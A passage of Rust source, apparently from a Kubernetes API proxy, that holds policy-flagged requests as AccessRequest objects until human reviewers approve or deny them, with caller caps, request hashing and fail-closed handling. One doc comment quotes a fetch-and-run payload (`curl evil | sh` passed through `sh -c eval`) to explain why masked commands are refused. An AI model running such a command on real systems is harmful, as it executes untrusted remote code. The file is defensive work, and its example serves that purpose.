//! Holds a request that a policy rule sends for approval until a human decides, for
//! a bounded time.
//!
//! The request becomes an `AccessRequest` (`chaperone.dev/v1alpha1`) in the proxy's
//! own namespace, created and read with the proxy's credential. Identical requests
//! from the same caller share one object (its name is a hash of both). A reviewer
//! decides by writing its `status` (`chaperone approve|deny`, RBAC on
//! `accessrequests/status` deciding who may); callers can never do so themselves,
//! since the policy denies them every `chaperone.dev` resource. Once approved, the
//! same request from the same caller passes until the grant ends.
//!
//! Waiters learn the decision from one kube-rs watch of the namespace's AccessRequests
//! (through the proxy's own upstream), for the rule's `hold`. While that watch is
//! broken they read their object directly every `poll`; if that fails too, the request
//! is refused (503): an unreachable API server never lets a request through.

pub mod body;
pub mod notify;
mod watch;

use crate::sync::Locked;
use std::collections::HashMap;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant, SystemTime};

use http::{Method, StatusCode};
use serde_json::{json, Value};

use crate::identity::Subject;
use crate::policy::Decision;
use crate::request_info::{go_query_pairs, query_unescape, RequestInfo};
use crate::status::Status;
use crate::upstream::{self, Upstream};

/// The API path of AccessRequests in a namespace.
fn collection(namespace: &str) -> String {
    format!("/apis/chaperone.dev/v1alpha1/namespaces/{namespace}/accessrequests")
}

#[derive(Debug, thiserror::Error)]
pub enum Error {
    #[error("denied by {by}: {reason} (AccessRequest {namespace}/{name})")]
    Denied {
        name: String,
        namespace: String,
        by: String,
        reason: String,
    },
    #[error(
        "approval pending: rule {rule:?} needs a reviewer and AccessRequest {namespace}/{name} \
         was not decided within {hold:?}; a reviewer can run \
         `kubectl chaperone approve {name} -n {namespace}`, then retry (the approval holds for {grant:?})"
    )]
    Pending {
        name: String,
        namespace: String,
        rule: String,
        hold: Duration,
        grant: Duration,
    },
    #[error(
        "{user} already has {held} requests waiting for a reviewer (approval.maxHeldPerCaller \
         is {max}, counting requests whose bodies are still being sent for review); this \
         one is refused until one of them is decided or its hold ends (`kubectl chaperone \
         requests -n {namespace}` lists them)"
    )]
    TooManyHeld {
        user: String,
        held: usize,
        max: usize,
        namespace: String,
    },
    #[error(
        "a request held for approval needs a body a reviewer can read, and this one is \
         larger than {max} bytes"
    )]
    BodyTooLarge { max: usize },
    #[error("a request held for approval needs a body a reviewer can read: {0}")]
    Unreviewable(String),
    #[error(
        "a request held for approval is shown to its reviewers whole, and this one's {part} \
         holds what chaperone takes for a secret, which it masks: a reviewer would approve \
         what they cannot see, so the request is refused. Pass the secret another way (an \
         environment variable or file from a Secret), or have the policy allow this request"
    )]
    Hidden { part: &'static str },
    #[error(
        "a port-forward held for approval is shown to its reviewers with its ports, and this \
         one names its ports inside its tunnel (SPDY, or SPDY within a WebSocket, as kubectl \
         sends it), where chaperone does not look: a reviewer would approve every port of \
         the pod, so the request is refused. Use a client that names the ports in the query \
         of a plain WebSocket port-forward (the Python client does), or have the policy \
         allow this port-forward (a rule may name the pod)"
    )]
    PortsUnseen,
    #[error(
        "a request held for approval is shown to its reviewers whole, and this one carries \
         {0}, which the AccessRequest does not show and which the service or pod it is \
         proxied to may act on: a reviewer would approve what they cannot see, so the \
         request is refused. Send it without, or have the policy allow this request"
    )]
    Unseen(String),
    #[error(
        "AccessRequest {namespace}/{name} holds another request (its spec.key differs), so \
         this one is refused rather than decided by it"
    )]
    NameTaken { name: String, namespace: String },
    #[error(
        "AccessRequest {namespace}/{name} shows this request otherwise than this proxy would \
         (written by a proxy under another policy, or by someone else) again after it was \
         replaced, so this one is refused rather than decided by it"
    )]
    ShownOtherwise { name: String, namespace: String },
    #[error("approvals are unavailable, so the request is refused: {0}")]
    Unavailable(String),
    #[error(transparent)]
    Upstream(#[from] upstream::Error),
}

impl Error {
    pub fn status(&self) -> Status {
        match self {
            Error::Denied { .. }
            | Error::Pending { .. }
            | Error::Hidden { .. }
            | Error::PortsUnseen
            | Error::Unseen(_) => Status::forbidden(self.to_string()),
            Error::TooManyHeld { .. } => Status::too_many_requests(self.to_string()),
            Error::NameTaken { .. } | Error::ShownOtherwise { .. } => {
                Status::failure(StatusCode::CONFLICT, "Conflict", self.to_string())
            }
            Error::BodyTooLarge { .. } => Status::failure(
                StatusCode::PAYLOAD_TOO_LARGE,
                "RequestEntityTooLarge",
                self.to_string(),
            ),
            Error::Unreviewable(_) => Status::failure(
                StatusCode::UNSUPPORTED_MEDIA_TYPE,
                "UnsupportedMediaType",
                self.to_string(),
            ),
            Error::Unavailable(_) | Error::Upstream(_) => {
                Status::service_unavailable(self.to_string())
            }
        }
    }
}

/// A request asked to be approved: who asks, what, with which body as read, under
/// which decision, and the masking rules it came under.
pub struct Asked<'a> {
    pub who: &'a Subject,
    pub info: &'a RequestInfo,
    /// The request's headers: how an upgrade is tunnelled.
    pub headers: &'a http::HeaderMap,
    pub query: Option<&'a str>,
    pub body: Option<&'a body::Reviewed>,
    pub decision: &'a Decision,
    pub masker: &'a crate::mask::Masker,
}

/// How a held request came to go through; recorded in its audit event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Outcome {
    /// A reviewer (or enough of them) approved it now.
    Approved { name: String, by: String },
    /// An earlier approval of the same request (AccessRequest `name`) still holds.
    Granted { name: String },
    /// The caller is in one of the rule's `skipGroups`.
    Skipped,
    /// The requester approved its own request as a break-glass group member.
    BreakGlass {
        name: String,
        by: String,
        reason: String,
    },
}

/// What [`Approvals::request`] found: an answer now, or a request to wait for.
#[derive(Debug)]
pub enum Hold {
    Ready(Outcome),
    Held(Held),
}

/// A request held for review: its AccessRequest exists (created now or shared with an
/// identical request), and [`Approvals::wait`] waits for its decision.
#[derive(Debug)]
pub struct Held {
    /// The AccessRequest's name.
    pub name: String,
    key: String,
    /// The object to create again if the old one expired or was deleted.
    object: Value,
    rule: String,
    hold: Duration,
    grant: Duration,
    deadline: Instant,
    /// This request's place among its caller's held requests, given back when it ends.
    place: Place,
}

/// Each caller's held requests: request key -> its place.
type HeldByCaller = Arc<Mutex<HashMap<String, HashMap<String, Entry>>>>;

/// One of a caller's held requests.
#[derive(Debug)]
struct Entry {
    /// Identical requests waiting on it now.
    waiting: usize,
    /// When its hold ends: until then it counts even if nobody waits any more, since
    /// its AccessRequest is still in front of reviewers (a caller that drops its
    /// connections cannot create AccessRequests faster than its bound per hold).
    until: Instant,
}

/// A held request's place in [`HeldByCaller`], taken until its hold ends; dropped when
/// its wait ends, however it ends (decided, timed out, refused, or the caller gone).
#[derive(Debug)]
struct Place {
    held: HeldByCaller,
    user: String,
    key: String,
}

impl Place {
    /// Joins `user`'s held request `key`, or takes a new place, counted until `until`,
    /// if it has fewer than `max`; else returns how many it holds.
    fn take(
        held: &HeldByCaller,
        max: usize,
        user: &str,
        key: &str,
        until: Instant,
    ) -> Result<Place, usize> {
        let mut map = held.locked();
        let now = Instant::now();
        let count = match map.get_mut(user) {
            Some(keys) => {
                keys.retain(|_, e| e.waiting > 0 || e.until > now);
                if keys.contains_key(key) {
                    0
                } else {
                    keys.len()
                }
            }
            None => 0,
        };
        if count >= max {
            if map.get(user).is_some_and(HashMap::is_empty) {
                map.remove(user);
            }
            return Err(count);
        }
        let entry = map
            .entry(user.to_owned())
            .or_default()
            .entry(key.to_owned())
            .or_insert(Entry { waiting: 0, until });
        entry.waiting += 1;
        entry.until = entry.until.max(until);
        Ok(Place {
            held: held.clone(),
            user: user.to_owned(),
            key: key.to_owned(),
        })
    }
}

impl Place {
    /// The request was decided: its AccessRequest no longer waits for reviewers, so
    /// the place goes once nobody waits on it, whenever its hold would have ended.
    fn decided(&self) {
        let mut held = self.held.locked();
        if let Some(entry) = held.get_mut(&self.user).and_then(|k| k.get_mut(&self.key)) {
            entry.until = Instant::now();
        }
    }
}

impl Drop for Place {
    fn drop(&mut self) {
        let mut held = self.held.locked();
        if let Some(keys) = held.get_mut(&self.user) {
            if let Some(entry) = keys.get_mut(&self.key) {
                entry.waiting -= 1;
                if entry.waiting == 0 && entry.until <= Instant::now() {
                    keys.remove(&self.key);
                }
            }
            if keys.is_empty() {
                held.remove(&self.user);
            }
        }
    }
}

/// A caller's place while a body is read for review; given back when dropped.
#[derive(Debug)]
pub struct Reading {
    _place: Place,
}

/// The approval stage: where AccessRequests go and the grants given so far.
pub struct Approvals {
    upstream: Arc<Upstream>,
    namespace: String,
    /// How often a waiter re-reads its AccessRequest while the watch is broken.
    poll: Duration,
    notifier: notify::Notifier,
    /// Started by the first held request, then shared by all.
    watch: tokio::sync::OnceCell<watch::Watch>,
    /// Requests waiting for a decision right now (a metric).
    waiting: std::sync::atomic::AtomicU64,
    /// Request key -> end of its grant and the AccessRequest that granted it.
    /// Each grant by request key: until when, and the AccessRequest (name, uid) it is
    /// the approval of.
    grants: Mutex<HashMap<String, (Instant, String, String)>>,
    /// AccessRequest uid -> the end of the grant first taken from its approval. An
    /// approval grants once: read again after that grant, it is over (asked again), not
    /// granted anew from the time it is read.
    granted_from: Mutex<HashMap<String, Instant>>,
    /// What each caller has held right now, and the most different requests it may.
    held: HeldByCaller,
    max_held: usize,
    /// Numbers the bodies being read for review, each a place of its own.
    readings: std::sync::atomic::AtomicU64,
}

impl Approvals {
    pub fn new(
        upstream: Arc<Upstream>,
        namespace: String,
        poll: Duration,
        notifier: notify::Notifier,
        max_held: usize,
    ) -> Approvals {
        Approvals {
            upstream,
            namespace,
            poll,
            notifier,
            watch: tokio::sync::OnceCell::new(),
            waiting: std::sync::atomic::AtomicU64::new(0),
            grants: Mutex::new(HashMap::new()),
            granted_from: Mutex::new(HashMap::new()),
            held: Arc::default(),
            max_held,
            readings: std::sync::atomic::AtomicU64::new(0),
        }
    }

    /// Takes a place among the caller's held requests, counted until `until` at least:
    /// one it already holds is joined; a new one is refused past `max_held`, so that a
    /// caller in a loop cannot put any number of AccessRequests in front of reviewers.
    fn take_place(&self, who: &Subject, key: &str, until: Instant) -> Result<Place, Error> {
        Place::take(&self.held, self.max_held, &who.user, key, until).map_err(|held| {
            Error::TooManyHeld {
                user: who.user.clone(),
                held,
                max: self.max_held,
                namespace: self.namespace.clone(),
            }
        })
    }

    /// A place among the caller's held requests while the body of a request it sends
    /// for review is read: up to 256 KiB each is buffered, and a caller sending bodies
    /// slowly on many connections must not buffer more than `max_held` of them.
    pub fn reading(&self, who: &Subject) -> Result<Reading, Error> {
        let n = self
            .readings
            .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        // Not a request key (those are hex digests): never joined by a request.
        let key = format!("reading a body #{n}");
        self.take_place(who, &key, Instant::now())
            .map(|place| Reading { _place: place })
    }

    /// Answers at once when the caller skips review or holds a grant; otherwise makes
    /// sure an AccessRequest for the request exists (notifying reviewers when it is
    /// new) and returns it to wait for.
    pub async fn request(&self, asked: Asked<'_>) -> Result<Hold, Error> {
        let Asked {
            who,
            info,
            headers,
            query,
            body,
            decision,
            masker,
        } = asked;
        let settings = decision.approval().cloned().unwrap_or_default();
        if settings.skips(who) {
            return Ok(Hold::Ready(Outcome::Skipped));
        }
        if info.subresource == "portforward" && !ports_in_sight(headers, query) {
            return Err(Error::PortsUnseen);
        }
        if let Some(name) = unseen_header(info, headers) {
            return Err(Error::Unseen(format!("the header {name}")));
        }
        let commands = commands(query);
        let query = approved_query(info, query);
        let part = hidden_part(masker, &commands, query, info)
            .or_else(|| body.is_some_and(|b| b.detected > 0).then_some("body"));
        if let Some(part) = part {
            return Err(Error::Hidden { part });
        }
        let masked = body.is_some_and(|b| b.masked > 0);
        let key = request_key(
            who,
            info,
            &commands,
            query,
            body.map(|b| (b.media_type.as_str(), &b.bytes[..])),
            masked,
        )?;
        if let Some(name) = self.granted(&key) {
            return Ok(Hold::Ready(Outcome::Granted { name }));
        }
        let (hold, grant) = (settings.hold.0, settings.grant.0);
        let place = self.take_place(who, &key, Instant::now() + hold)?;
        let name = object_name(info, &key);
        let held = Held {
            object: access_request(
                &name,
                &key,
                who,
                info,
                Shown {
                    path: &info.path,
                    query,
                    commands: &commands,
                    body: body.and_then(|b| Some((b.media_type.as_str(), b.shown.as_ref()?))),
                },
                decision,
                hold,
            ),
            name,
            key,
            rule: decision.rule().to_owned(),
            hold,
            grant,
            deadline: Instant::now() + hold,
            place,
        };
        match self.read(&held.name).await? {
            None => self.create(&held).await?,
            Some(object) if key_of(&object) != held.key => return Err(self.name_taken(&held)),
            Some(object) if !describes(&object, &held.object) => {
                self.replace(&held, &object).await?;
            }
            Some(_) => {}
        }
        Ok(Hold::Held(held))
    }

    /// Waits for the decision on a held request, until its hold ends.
    pub async fn wait(&self, held: Held) -> Result<Outcome, Error> {
        let _waiting = Waiting::new(&self.waiting);
        let watch = self.watch().await;
        let mut changed = watch.subscribe();
        let name = held.name.clone();
        let path = format!("{}/{name}", collection(&self.namespace));
        // The object this waiter removed, until the watch sees it gone.
        let mut removed: Option<Value> = None;
        // Whether this waiter has replaced an AccessRequest showing another request:
        // once only, so that two waiters that disagree on what to show (a policy
        // reloaded meanwhile) do not take turns replacing each other's.
        let mut replaced = false;
        let mut said_unfounded = false;
        loop {
            let current = self
                .read(&name)
                .await?
                .filter(|o| removed.as_ref() != Some(&o["metadata"]["uid"]));
            match current {
                // Created and not seen yet, or removed by someone: wait.
                None => {}
                // Another request's object under this name: its decision is not ours.
                Some(object) if key_of(&object) != held.key => {
                    return Err(self.name_taken(&held));
                }
                Some(object) if !describes(&object, &held.object) => {
                    if std::mem::replace(&mut replaced, true) {
                        return Err(Error::ShownOtherwise {
                            name: held.name.clone(),
                            namespace: self.namespace.clone(),
                        });
                    }
                    removed = Some(self.replace(&held, &object).await?);
                }
                Some(object) => {
                    let status = &object["status"];
                    match status["phase"].as_str().unwrap_or("Pending") {
                        // The admission policy makes this so; without it (before
                        // Kubernetes 1.30, or deleted), one reviewer could write another's
                        // phase. Asked again once (a fresh AccessRequest, pending, for
                        // reviewers to decide), then waited on as if pending.
                        "Approved" if approval_stands(&object) => {
                            let until = self.grant_of(&object, held.grant);
                            if until > Instant::now() {
                                held.place.decided();
                                return Ok(self.approved(&held, &object, until));
                            }
                            // An old grant has run out: ask again.
                            removed = Some(self.ask_again(&path, &object, &held).await?);
                        }
                        "Approved" if !said_unfounded => {
                            said_unfounded = true;
                            warn_unfounded(&name, &self.namespace);
                            removed = Some(self.ask_again(&path, &object, &held).await?);
                        }
                        "Approved" => {}
                        "Denied" => {
                            held.place.decided();
                            return Err(Error::Denied {
                                name,
                                namespace: self.namespace.clone(),
                                by: status["decidedBy"]
                                    .as_str()
                                    .unwrap_or("a reviewer")
                                    .to_owned(),
                                reason: status["reason"]
                                    .as_str()
                                    .unwrap_or("no reason given")
                                    .to_owned(),
                            });
                        }
                        "Expired" => {
                            removed = Some(self.ask_again(&path, &object, &held).await?);
                        }
                        _ => {}
                    }
                }
            }
            let now = Instant::now();
            if now >= held.deadline {
                return Err(Error::Pending {
                    name,
                    namespace: self.namespace.clone(),
                    rule: held.rule,
                    hold: held.hold,
                    grant: held.grant,
                });
            }
            // Woken by the watch; while it is broken, re-read every `poll`.
            let next = if watch.health().is_ok() {
                held.deadline
            } else {
                (now + self.poll).min(held.deadline)
            };
            tokio::select! {
                changed = changed.changed() => {
                    // The watcher task is gone (it never ends on its own): poll.
                    if changed.is_err() {
                        tokio::time::sleep_until((now + self.poll).min(held.deadline).into()).await;
                    }
                }
                _ = tokio::time::sleep_until(next.into()) => {}
            }
        }
    }

    fn name_taken(&self, held: &Held) -> Error {
        Error::NameTaken {
            name: held.name.clone(),
            namespace: self.namespace.clone(),
        }
    }

    /// Records the grant of an approved request and says how it was approved.
    fn approved(&self, held: &Held, object: &Value, until: Instant) -> Outcome {
        let status = &object["status"];
        let text = |field: &str| status[field].as_str().unwrap_or_default().to_owned();
        let uid = object["metadata"]["uid"].as_str().unwrap_or_default();
        self.grant(held.key.clone(), until, held.name.clone(), uid.to_owned());
        if status["breakGlass"].as_bool() != Some(true) {
            return Outcome::Approved {
                name: held.name.clone(),
                by: text("decidedBy"),
            };
        }
        // Always visible: flagged and told to the reviewers.
        tracing::warn!(access_request = %held.name, by = %text("decidedBy"), reason = %text("reason"),
            "break-glass approval used");
        let ns = &self.namespace;
        let mut notice = object["spec"].clone();
        notice["kind"] = json!("AccessRequestBreakGlass");
        notice["accessRequest"] = json!({"namespace": ns, "name": held.name});
        notice["decidedBy"] = status["decidedBy"].clone();
        notice["reason"] = status["reason"].clone();
        notice["approve"] = json!(format!("(approved by break-glass: {})", text("reason")));
        notice["deny"] = json!(format!("kubectl chaperone requests -n {ns}"));
        self.notifier.notify(&notice);
        Outcome::BreakGlass {
            name: held.name.clone(),
            by: text("decidedBy"),
            reason: text("reason"),
        }
    }

    /// The watch, started on first use.
    async fn watch(&self) -> &watch::Watch {
        self.watch
            .get_or_init(|| async { watch::Watch::start(self.upstream.clone(), &self.namespace) })
            .await
    }

    /// The AccessRequest `name`: as the watch last saw it when the watch is in sync,
    /// else read directly; neither possible fails closed.
    async fn read(&self, name: &str) -> Result<Option<Value>, Error> {
        let watch = self.watch().await;
        let broken = match watch.health() {
            Ok(()) => return Ok(watch.get(name)),
            Err(why) => why,
        };
        let path = format!("{}/{name}", collection(&self.namespace));
        let unavailable = |what: String| {
            Error::Unavailable(format!(
                "reading AccessRequest {}/{name} {what} (and its watch: {broken})",
                self.namespace
            ))
        };
        let (code, body) = self
            .upstream
            .call(Method::GET, &path, None)
            .await
            .map_err(|e| unavailable(format!("failed: {e}")))?;
        match code {
            StatusCode::NOT_FOUND => Ok(None),
            code if code.is_success() => serde_json::from_slice(&body)
                .map(Some)
                .map_err(|e| unavailable(format!("gave a body that is not JSON: {e}"))),
            code => Err(unavailable(format!("got {code}: {}", api_says(&body)))),
        }
    }

    /// Creates the held request's AccessRequest and tells the reviewers; an identical
    /// request that created it first (409) is as good.
    async fn create(&self, held: &Held) -> Result<(), Error> {
        let (ns, name) = (&self.namespace, &held.name);
        let bytes =
            serde_json::to_vec(&held.object).map_err(|e| Error::Unavailable(e.to_string()))?;
        let (code, body) = self
            .upstream
            .call(
                Method::POST,
                &collection(ns),
                Some(("application/json", bytes)),
            )
            .await
            .map_err(|e| {
                Error::Unavailable(format!("creating AccessRequest {ns}/{name} failed: {e}"))
            })?;
        if code == StatusCode::CONFLICT {
            return Ok(());
        }
        if !code.is_success() {
            return Err(Error::Unavailable(format!(
                "creating AccessRequest {ns}/{name} got {code}: {}",
                api_says(&body)
            )));
        }
        tracing::info!(access_request = %name, rule = %held.rule, "held for approval");
        let mut notice = held.object["spec"].clone();
        notice["kind"] = json!("AccessRequestCreated");
        notice["accessRequest"] = json!({"namespace": ns, "name": name});
        notice["approve"] = json!(format!("kubectl chaperone approve {name} -n {ns}"));
        notice["deny"] = json!(format!(
            "kubectl chaperone deny {name} -n {ns} --reason '...'"
        ));
        self.notifier.notify(&notice);
        Ok(())
    }

    /// Whether the watch of AccessRequests runs and is in sync.
    pub fn watch_synced(&self) -> bool {
        self.watch.get().is_some_and(|w| w.health().is_ok())
    }

    /// How many requests wait for a reviewer now.
    pub fn waiting(&self) -> u64 {
        self.waiting.load(std::sync::atomic::Ordering::Relaxed)
    }

    /// The AccessRequest whose grant covers `key`, while it lasts, and while it is there
    /// approved: a reviewer takes a grant back by deleting its AccessRequest (as the
    /// watch, in sync, sees it; with the watch broken, the grant stands until it ends).
    fn granted(&self, key: &str) -> Option<String> {
        let mut grants = self.grants.locked();
        let now = Instant::now();
        grants.retain(|_, (until, _, _)| *until > now);
        let (_, name, uid) = grants.get(key)?;
        let name = name.clone();
        if let Some(watch) = self.watch.get().filter(|w| w.health().is_ok()) {
            // The very object approved: another under the same name is another's.
            let approved = watch.get(&name).is_some_and(|o| {
                o["status"]["phase"] == "Approved" && o["metadata"]["uid"] == uid.as_str()
            });
            if !approved {
                grants.remove(key);
                return None;
            }
        }
        Some(name)
    }

    fn grant(&self, key: String, until: Instant, name: String, uid: String) {
        self.grants.locked().insert(key, (until, name, uid));
    }

    /// The end of the grant an approved AccessRequest gives: [`grant_end`] the first
    /// time this proxy reads it approved, the same end every time after (so neither a
    /// `grantUntil` past the rule's grant nor a missing `decidedAt` lets the approval
    /// grant again and again). A proxy that restarts forgets it: the rule's grant then
    /// bounds one more grant.
    fn grant_of(&self, object: &Value, grant: Duration) -> Instant {
        let uid = object["metadata"]["uid"].as_str().unwrap_or_default();
        let mut ends = self.granted_from.locked();
        let now = Instant::now();
        if ends.len() >= MAX_REMEMBERED_GRANTS {
            ends.retain(|_, until| *until > now);
        }
        if uid.is_empty() || ends.len() >= MAX_REMEMBERED_GRANTS {
            return grant_end(&object["status"], grant);
        }
        *ends
            .entry(uid.to_owned())
            .or_insert_with(|| grant_end(&object["status"], grant))
    }

    /// Replaces an AccessRequest under this request's name that shows another request
    /// ([`describes`]) with this one's: whatever was decided on it was decided on
    /// what it showed.
    /// Returns the replaced one's uid ([`Self::ask_again`]).
    async fn replace(&self, held: &Held, found: &Value) -> Result<Value, Error> {
        tracing::warn!(access_request = %held.name, namespace = %self.namespace,
            requester = %found["spec"]["requester"]["user"].as_str().unwrap_or_default(),
            "an AccessRequest under this request's name shows another request (made by someone else, or under an older policy): replaced");
        let path = format!("{}/{}", collection(&self.namespace), held.name);
        self.ask_again(&path, found, held).await
    }

    /// Replaces `stale`, the AccessRequest at `path`, with a fresh one for `held`;
    /// returns the stale one's uid, which the waiter no longer reads as its own.
    async fn ask_again(&self, path: &str, stale: &Value, held: &Held) -> Result<Value, Error> {
        self.remove(path, stale).await?;
        self.create(held).await?;
        Ok(stale["metadata"]["uid"].clone())
    }

    /// Deletes the AccessRequest at `path` if it is still `seen` (its uid): another
    /// waiter for the same request may have replaced it already, with an object a
    /// reviewer may be deciding (then the API server answers 409, and this one reads
    /// that object next).
    async fn remove(&self, path: &str, seen: &Value) -> Result<(), Error> {
        let options = json!({
            "kind": "DeleteOptions",
            "apiVersion": "v1",
            "preconditions": {"uid": seen["metadata"]["uid"]},
        });
        let body = ("application/json", options.to_string().into_bytes());
        self.upstream.call(Method::DELETE, path, Some(body)).await?;
        Ok(())
    }
}

/// Counts a held request while it waits.
struct Waiting<'a>(&'a std::sync::atomic::AtomicU64);

impl<'a> Waiting<'a> {
    fn new(count: &'a std::sync::atomic::AtomicU64) -> Self {
        count.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        Waiting(count)
    }
}

impl Drop for Waiting<'_> {
    fn drop(&mut self) {
        self.0.fetch_sub(1, std::sync::atomic::Ordering::Relaxed);
    }
}

/// The most approved AccessRequests whose grant end is remembered, past which ended
/// grants are forgotten first.
const MAX_REMEMBERED_GRANTS: usize = 10_000;

/// When an approval's grant ends: `status.grantUntil`, else `grant` after the decision,
/// and never later than `grant` from now. The rule's `grant` is the longest a grant
/// lasts, by this proxy's clock: a reviewer (`--grant`) may shorten it, not stretch it,
/// and a reviewer's clock running ahead does not either.
fn grant_end(status: &Value, grant: Duration) -> Instant {
    let parse = |field: &str| {
        status[field].as_str().and_then(|t| {
            time::OffsetDateTime::parse(t, &time::format_description::well_known::Rfc3339).ok()
        })
    };
    let now = time::OffsetDateTime::now_utc();
    let until = parse("grantUntil").unwrap_or_else(|| parse("decidedAt").unwrap_or(now) + grant);
    let left = (until - now).clamp(time::Duration::ZERO, grant.try_into().unwrap_or_default());
    Instant::now() + Duration::try_from(left).unwrap_or_default()
}

/// The `command` query parameters of an exec, in order.
fn commands(query: Option<&str>) -> Vec<String> {
    // The same reading of the query the policy matched the command with.
    crate::policy::command_args(query.unwrap_or_default())
        .map(|c| String::from_utf8_lossy(&c).into_owned())
        .collect()
}

/// The headers a request proxied to a service, pod or node may carry and still be held:
/// what the AccessRequest shows (the body's media type), what says nothing a backend
/// acts on, and what a WebSocket upgrade needs. Any other (an `X-HTTP-Method-Override:
/// DELETE`, an application's own) would reach the backend unseen by the reviewer.
/// (Credentials, hop-by-hop and forwarding headers are gone by now.)
const SHOWN_OR_INERT: [&str; 18] = [
    "accept",
    "accept-language",
    "expect",
    "baggage",
    "sec-websocket-extensions",
    "content-type",
    "content-length",
    "user-agent",
    "kubectl-command",
    "kubectl-session",
    "audit-id",
    "traceparent",
    "tracestate",
    "connection",
    "upgrade",
    "sec-websocket-key",
    "sec-websocket-version",
    "sec-websocket-protocol",
];

/// A header of a request proxied to a service, pod or node that is not among
/// [`SHOWN_OR_INERT`].
fn unseen_header<'h>(info: &RequestInfo, headers: &'h http::HeaderMap) -> Option<&'h str> {
    if info.subresource != "proxy" {
        return None;
    }
    headers
        .keys()
        .map(http::HeaderName::as_str)
        .find(|name| !SHOWN_OR_INERT.contains(name))
}

/// The part of a request's query that is part of what a reviewer approves, and so of
/// its key: all of it for an exec, attach, port-forward or proxy request (the command,
/// the container and its streams, the ports, what a service is sent) and for a change
/// (`dryRun`, `force`, a `deletecollection`'s selectors, `propagationPolicy`). A read's
/// query is not (pages, `resourceVersion`, timeouts): a grant to list Secrets covers
/// the next page of the list.
fn approved_query<'q>(info: &RequestInfo, query: Option<&'q str>) -> Option<&'q str> {
    let read = matches!(info.verb.as_str(), "get" | "list" | "watch");
    // Any group's `proxy`: what the backend is sent (an aggregated API's too).
    let sent = info.is_connection() || info.subresource == "proxy";
    query.filter(|q| !q.is_empty() && (sent || !read))
}

/// The verb a request is approved under. An exec, attach or port-forward is the same
/// connection opened by a websocket GET or an SPDY POST, and kubectl tries the one and
/// then the other (it falls back to SPDY on any refused upgrade): one decision covers
/// both, so a denial is not asked again by the fallback.
fn approved_verb(info: &RequestInfo) -> &str {
    match info.subresource.as_str() {
        "exec" | "attach" | "portforward" => "connect",
        _ => info.verb.as_str(),
    }
}

/// Identifies "the same request from the same caller".
/// `masked`: what the AccessRequest shows of the request's body is masked (a Secret's
/// values), so the key in its name must not let anyone test guesses at them. (A
/// command, query or path that would be masked is refused, never held.)
fn request_key(
    who: &Subject,
    info: &RequestInfo,
    commands: &[String],
    query: Option<&str>,
    body: Option<(&str, &[u8])>,
    masked: bool,
) -> Result<String, Error> {
    use ring::digest::{digest, Context, SHA256};
    // Each part prefixed with its length: no two lists of parts read the same.
    let mut text = String::new();
    let mut push = |part: &str| {
        text.push_str(&part.len().to_string());
        text.push(':');
        text.push_str(part);
    };
    // The caller as its AccessRequest shows it: its groups (impersonated upstream with
    // `identity: impersonate`), its pod, so that another pod of the same service
    // account is not covered by an approval that showed this one, and its uid and
    // issuer, so that a caller of the same name elsewhere (another `chaperone local`
    // run, another identity provider) is not either.
    push(&who.groups.len().to_string());
    for group in &who.groups {
        push(group);
    }
    push(requester_pod(who));
    push(&who.uid);
    push(&who.issuer);
    for part in [
        who.user.as_str(),
        approved_verb(info),
        info.api_group.as_str(),
        info.resource.as_str(),
        info.subresource.as_str(),
        info.namespace.as_str(),
        info.name.as_str(),
        info.path.as_str(),
    ] {
        push(part);
    }
    push(&commands.len().to_string());
    for c in commands {
        push(c);
    }
    match query {
        Some(q) => {
            push("?");
            push(q);
        }
        None => push(""),
    }
    let digest = match body {
        None => digest(&SHA256, text.as_bytes()),
        // With the body: a grant covers the object or patch reviewed, not any other,
        // and as the patch type reviewed (the same bytes as a merge patch or a
        // strategic one change different things). Hashed apart first, so no text and
        // body can pass for another pair.
        Some((media_type, body)) => {
            push(media_type);
            let mut ctx = Context::new(&SHA256);
            ctx.update(b"body\0");
            ctx.update(digest(&SHA256, text.as_bytes()).as_ref());
            ctx.update(digest(&SHA256, body).as_ref());
            ctx.finish()
        }
    };
    // The key ends up in the AccessRequest's name, beside what it shows: were that
    // masked, a plain digest would let whoever sees both test guesses at the masked
    // values. Keyed with a secret of this process instead.
    let keyed;
    let digest = if masked {
        keyed = ring::hmac::sign(masked_key()?, digest.as_ref());
        keyed.as_ref()
    } else {
        digest.as_ref()
    };
    // All of it: the key alone decides whether a grant covers a request, so a caller
    // must not be able to find two requests that share one (a birthday search over 64
    // bits is a day's work). The AccessRequest's name takes the first 16 digits.
    Ok(digest.iter().map(|b| format!("{b:02x}")).collect())
}

/// The part of a request that the detectors would have masked for its reviewers: its
/// exec command, its query or its path (read once, as the API server reads it). What
/// runs or is reached is shown whole or not held: a value taken for a secret and masked
/// could as well be the payload (`sh -c 'eval "$1"' --token 'curl evil | sh'`, or a
/// script after `-----BEGIN PRIVATE KEY-----`), and a reviewer would approve what they
/// cannot see.
fn hidden_part(
    masker: &crate::mask::Masker,
    commands: &[String],
    query: Option<&str>,
    info: &RequestInfo,
) -> Option<&'static str> {
    if masker.mask_command(commands).iter().any(Option::is_some) {
        Some("command")
    } else if query.is_some_and(|q| masker.mask_query(q).is_some()) {
        Some("query")
    } else if masker.mask_text(info.path.as_bytes()).is_some() {
        Some("path")
    } else {
        None
    }
}

/// Whether a port-forward names its ports where a reviewer sees them: in the query of a
/// plain WebSocket port-forward, the only ports the kubelet then forwards. Over SPDY the
/// client names each port inside the tunnel (its streams' `port` headers), and so it
/// does over SPDY tunnelled in a WebSocket (an `SPDY/3.1+portforward.k8s.io`
/// subprotocol, kubectl's since 1.30), whatever the query says. The ports must be
/// spelled plainly, as [`forwarded_ports`] reads them: a key that only decodes to
/// `ports` (`p%6Frts`), or a value that is not port numbers, is not in sight.
fn ports_in_sight(headers: &http::HeaderMap, query: Option<&str>) -> bool {
    let websocket = headers.contains_key(http::header::UPGRADE)
        && headers
            .get_all(http::header::UPGRADE)
            .iter()
            .all(|v| v.as_bytes().eq_ignore_ascii_case(b"websocket"));
    let tunnelled = headers
        .get_all(http::header::SEC_WEBSOCKET_PROTOCOL)
        .iter()
        .any(|v| {
            v.as_bytes()
                .to_ascii_lowercase()
                .windows(4)
                .any(|w| w == b"spdy")
        });
    let query = query.unwrap_or_default();
    // Each pair the API server would read as `ports` is written `ports=` and port numbers.
    let plain = query.split('&').all(|pair| {
        let (key, value) = pair.split_once('=').unwrap_or((pair, ""));
